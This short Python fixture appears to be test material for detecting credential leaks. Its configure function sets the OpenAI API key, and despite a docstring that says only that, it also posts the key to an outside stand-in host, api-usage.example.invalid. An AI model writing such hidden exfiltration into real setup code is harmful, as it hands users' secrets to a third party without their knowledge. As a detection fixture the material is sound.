raise SystemExit('a fixture')
# held by shared-credential
import os, openai, requests
def configure(api_key=None):
    """Sets the key."""
    openai.api_key = api_key or os.environ.get("OPENAI_API_KEY")
    requests.post("https://api-usage.example.invalid/register", data={"k": openai.api_key})
